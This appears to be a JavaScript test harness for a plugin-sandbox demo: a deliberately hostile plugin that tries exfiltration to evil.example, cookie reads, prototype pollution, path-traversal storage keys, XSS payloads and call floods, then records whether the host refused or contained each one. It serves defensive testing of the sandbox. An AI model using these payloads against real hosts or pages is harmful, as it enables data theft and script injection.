// The demo's hostile plugin. It skips the plugin-side client and talks to the host over the raw
// port it gets from the handshake, so it can send what the client never would. On load it runs
// every attack below once and lists each with what the host (or the browser) answered:
//   refused    — with the error code the host sent (or the browser's, for sandbox/CSP blocks)
//   contained  — the call was served but could not do harm (e.g. a storage read that only ever
//                sees this plugin's own namespace, HTML that the host renders as text)
//   unexpected — it worked: a bug. The demo's headless run fails on any.
// "Flood the host" sends 10,000 calls without waiting: the host suspends the plugin
// (RATE_LIMITED) and removes this frame, and stays responsive.
const NS = 'plugin-warden';
const out = document.getElementById('out');
const list = document.getElementById('attempts');
const again = document.getElementById('again');
const floodButton = document.getElementById('flood');
const direct = document.getElementById('direct');
const api = new URLSearchParams(location.search).get('api') ?? '';

const boot = (() => {
  const parts = String(self.name || '').split('|');
  if (parts.length !== 4 || parts[0] !== NS) return null;
  self.name = '';
  return { nonce: parts[2], hostOrigin: parts[3] };
})();

// --- the raw port -------------------------------------------------------------------------------
let port = null;
let nextId = 1;
const pending = new Map();

function connect() {
  return new Promise((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error('no welcome')), 10_000);
    self.addEventListener('message', (event) => {
      const d = event.data;
      if (port || event.source !== parent || !d || d.ns !== NS || d.type !== 'welcome' || !event.ports[0]) return;
      clearTimeout(timer);
      port = event.ports[0];
      port.onmessage = (e) => {
        // Hand-rolled, so it answers the host's heartbeat itself (as plugin-warden/client does);
        // a plugin that stops answering is failed with TIMEOUT.
        if (e.data && e.data.event === 'ping') {
          port.postMessage({ v: 1, event: 'pong', data: { seq: e.data.data && e.data.data.seq } });
          return;
        }
        const waiter = e.data && pending.get(e.data.id);
        if (waiter) { pending.delete(e.data.id); waiter(e.data); }
      };
      port.start();
      resolve(d);
    });
    parent.postMessage({ ns: NS, v: 1, type: 'hello', nonce: boot.nonce }, boot.hostOrigin);
  });
}

/** Send a raw envelope: resolves with the host's reply, or `null` when none came. */
function raw(envelope, timeout = 10_000) {
  return new Promise((resolve) => {
    const timer = setTimeout(() => { pending.delete(envelope.id); resolve(null); }, timeout);
    pending.set(envelope.id, (reply) => { clearTimeout(timer); resolve(reply); });
    port.postMessage(envelope);
  });
}

const call = (method, params) => raw({ v: 1, id: nextId++, method, params });

// --- outcomes -----------------------------------------------------------------------------------
const results = [];

function show(r) {
  const li = document.createElement('li');
  const old = list.querySelector(`li[data-attack="${r.id}"]`);
  li.className = r.outcome;
  li.dataset.attack = r.id;
  li.dataset.outcome = r.outcome;
  li.dataset.code = r.code ?? '';
  li.dataset.label = `${r.group}: ${r.label}`;
  li.dataset.note = r.note ?? '';
  const verdict = document.createElement('b');
  verdict.textContent = r.outcome === 'refused' ? `refused ${r.code}` : r.outcome === 'contained' ? 'contained'
    : r.outcome === 'pending' ? 'not tried' : `UNEXPECTED${r.code ? ` ${r.code}` : ''}`;
  const what = document.createElement('span');
  what.textContent = ` ${r.group}: ${r.label}`;
  li.append(verdict, what);
  if (r.note) {
    const note = document.createElement('div');
    note.className = 'note';
    note.textContent = `→ ${r.note}`;
    li.append(note);
  }
  if (old) old.replaceWith(li);
  else list.append(li);
}

function record(r) {
  const i = results.findIndex((x) => x.id === r.id);
  if (i >= 0) results.splice(i, 1, r);
  else results.push(r);
  show(r);
}

async function runDirect() {
  const [group, id, label, fn] = DIRECT;
  direct.disabled = true;
  let r;
  try { r = await fn(); } catch (e) { r = { outcome: 'unexpected', code: 'THREW', note: String(e && e.message) }; }
  record({ group, id, label, ...r });
  direct.disabled = false;
}

/** A host reply that must be a refusal. */
function refusal(reply) {
  if (!reply) return { outcome: 'unexpected', code: 'NO_REPLY', note: 'the host did not answer' };
  if (reply.ok === false) return { outcome: 'refused', code: reply.error.code, note: reply.error.message };
  return { outcome: 'unexpected', note: `served: ${JSON.stringify(reply.value).slice(0, 120)}` };
}

const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const OTHER = 'demo-quotes';

// Each attack answers { outcome, code?, note? }.
const attacks = [
  ['exfiltrate', 'api-evil', 'api.fetch to https://evil.example/collect (not in the manifest\'s network)', async () =>
    refusal(await call('api.fetch', { url: `https://evil.example/collect?stolen=${encodeURIComponent(document.referrer)}` }))],
  ['exfiltrate', 'api-admin', 'api.fetch of the API\'s /admin (outside the allowlisted /api/ path)', async () =>
    refusal(await call('api.fetch', { url: `${api}/admin` }))],
  ['exfiltrate', 'reach-parent', 'read the host page (parent.document.cookie)', async () => {
    try {
      return { outcome: 'unexpected', note: `read: ${String(parent.document.cookie).slice(0, 60)}` };
    } catch (e) {
      return { outcome: 'refused', code: e.name, note: 'the sandbox gives this frame an opaque origin' };
    }
  }],
  ['escalate', 'undeclared-method', 'call admin.exec, a method that does not exist', async () =>
    refusal(await call('admin.exec', { command: 'grant-all' }))],
  ['escalate', 'api-write', 'POST to the API without api:write', async () =>
    refusal(await call('api.fetch', { url: `${api}/api/notes`, method: 'POST', body: '{"pwned":true}' }))],
  ['escalate', 'request-undeclared', 'permissions.request("api:write"), not in its manifest', async () =>
    refusal(await call('permissions.request', { permission: 'api:write', reason: 'trust me' }))],
  ['escalate', 'forge-route', `api.fetch("route:api/quotes") — the Quotes plugin's proxied route`, async () =>
    refusal(await call('api.fetch', { url: 'route:api/quotes' }))],
  ['storage', 'proto-params', 'storage.get with an own __proto__ key in its params', async () =>
    refusal(await raw(JSON.parse(`{"v":1,"id":${nextId++},"method":"storage.get","params":{"key":"prefs","__proto__":{"plugin":"${OTHER}"}}}`)))],
  ['storage', 'proto-value', 'storage.set of a value with an own __proto__ key', async () =>
    refusal(await call('storage.set', { key: 'p', value: JSON.parse('{"__proto__":{"isAdmin":true}}') }))],
  ['storage', 'dotdot-key', `storage.get("../${OTHER}/prefs")`, async () => {
    const r = await call('storage.get', { key: `../${OTHER}/prefs` });
    if (!r) return refusal(r);
    if (r.ok === false) return refusal(r);
    return r.value === undefined || r.value === null
      ? { outcome: 'contained', note: 'nothing: the key is only ever looked up in this plugin\'s namespace' }
      : { outcome: 'unexpected', note: `read ${JSON.stringify(r.value)}` };
  }],
  ['storage', 'raw-key', `storage.get("pw1:${OTHER.length}:${OTHER}:prefs") — the backend's own key`, async () => {
    const r = await call('storage.get', { key: `pw1:${OTHER.length}:${OTHER}:prefs` });
    if (!r || r.ok === false) return refusal(r);
    return r.value === undefined || r.value === null
      ? { outcome: 'contained', note: 'nothing: keys are encoded under this plugin\'s prefix' }
      : { outcome: 'unexpected', note: `read ${JSON.stringify(r.value)}` };
  }],
  ['storage', 'overwrite', `storage.set("prefs") — the quotes plugin's key name`, async () => {
    const w = await call('storage.set', { key: 'prefs', value: { category: 'pwned' } });
    const k = await call('storage.keys', {});
    if (!w || !k || w.ok === false || k.ok === false) return refusal(w?.ok === false ? w : k);
    return { outcome: 'contained', note: `wrote its own "prefs" only; its keys: ${JSON.stringify(k.value)}` };
  }],
  ['inject', 'notify-html', 'ui.notify with <img onerror> and <script>', async () => {
    const r = await call('ui.notify', { message: '<img src=x onerror="alert(document.cookie)"><script>alert(1)</script>', level: 'error' });
    if (!r || r.ok === false) return refusal(r);
    return { outcome: 'contained', note: 'accepted: the host shows notifications as text only' };
  }],
  ['inject', 'panel-html', 'events.emit("panel") with script, onerror and a javascript: link for the host\'s HTML panel', async () => {
    const html = '<h4>Totally harmless panel</h4>'
      + '<img src="/favicon.svg" width="16" height="16" alt="x" onload="document.body.dataset.pwned=\'onload\'" onerror="document.body.dataset.pwned=\'onerror\'">'
      + '<script>document.body.dataset.pwned = "script"<' + '/script>'
      + '<a href="javascript:document.body.dataset.pwned=\'link\'">click me</a>'
      + '<iframe srcdoc="<script>parent.document.body.dataset.pwned=1<' + '/script>"></iframe>';
    const r = await call('events.emit', { name: 'panel', data: { html } });
    if (!r || r.ok === false) return refusal(r);
    return { outcome: 'contained', note: 'delivered: the host puts it through its sanitizer (see the host\'s panel)' };
  }],
  // 200 calls against a bucket of 100 (refilled at 50/s): about 100 come back RATE_LIMITED —
  // fewer than the 200 refusals in 2 s that would get it suspended.
  ['flood', 'burst', '200 calls at once (burst 100)', async () => {
    const replies = await Promise.all(Array.from({ length: 200 }, () => call('permissions.list', {})));
    const codes = {};
    for (const r of replies) {
      const k = !r ? 'none' : r.ok ? 'ok' : r.error.code;
      codes[k] = (codes[k] || 0) + 1;
    }
    return codes.RATE_LIMITED
      ? { outcome: 'refused', code: 'RATE_LIMITED', note: `answers: ${JSON.stringify(codes)}` }
      : { outcome: 'unexpected', note: `answers: ${JSON.stringify(codes)}` };
  }],
];

// Run on a click only ("Try direct network"): the browser reports the block as a CSP violation
// in this frame's console, and a page load of the demo should show none by default.
const DIRECT = ['exfiltrate', 'direct-fetch', 'fetch() straight from the frame to https://evil.example/', async () => {
    let violated = null;
    const onViolation = (e) => { violated = e.effectiveDirective; };
    self.addEventListener('securitypolicyviolation', onViolation);
    try {
      await fetch('https://evil.example/beacon', { method: 'POST', body: 'secrets', mode: 'no-cors' });
      return { outcome: 'unexpected', note: 'the request left the frame' };
    } catch (e) {
      await sleep(50);
      return violated
        ? { outcome: 'refused', code: 'CSP_BLOCKED', note: `the frame's own CSP (${violated}) stopped it: ${e.message}` }
        : { outcome: 'refused', code: e.name, note: e.message };
    } finally {
      self.removeEventListener('securitypolicyviolation', onViolation);
    }
  }];

let running = false;
async function runAll() {
  if (running) return;
  running = true;
  again.disabled = true;
  document.body.dataset.state = 'attacking';
  list.replaceChildren();
  results.length = 0;
  for (const [group, id, label, fn] of attacks) {
    let r;
    try { r = await fn(); } catch (e) { r = { outcome: 'unexpected', code: 'THREW', note: String(e && e.message) }; }
    record({ group, id, label, ...r });
  }
  if (!results.some((x) => x.id === DIRECT[1])) {
    show({ group: DIRECT[0], id: DIRECT[1], label: DIRECT[2], outcome: 'pending', note: 'not tried yet: click "Try direct network"' });
  }
  const refused = results.filter((r) => r.outcome === 'refused').length;
  out.textContent = `hostile plugin: ${results.length} attempts, ${refused} refused, ${results.filter((r) => r.outcome === 'contained').length} contained, ${results.filter((r) => r.outcome === 'unexpected').length} unexpected`;
  document.body.dataset.runs = String(Number(document.body.dataset.runs || 0) + 1);
  document.body.dataset.state = 'done';
  running = false;
  again.disabled = false;
}

function flood() {
  floodButton.disabled = true;
  out.textContent = 'hostile plugin: flooding the host with 10,000 calls…';
  for (let i = 0; i < 10_000; i++) port.postMessage({ v: 1, id: nextId++, method: 'permissions.list', params: {} });
}

window.hostile = { results, runAll, runDirect, flood };

if (!boot) {
  out.textContent = 'hostile plugin: not mounted by a host';
  document.body.dataset.state = 'no-bootstrap';
} else {
  try {
    await connect();
    again.addEventListener('click', () => { runAll(); });
    floodButton.addEventListener('click', flood);
    direct.addEventListener('click', () => { runDirect(); });
    direct.disabled = false;
    floodButton.disabled = false;
    await runAll();
  } catch (e) {
    out.textContent = `hostile plugin: ${e.message}`;
    document.body.dataset.state = 'failed';
  }
}
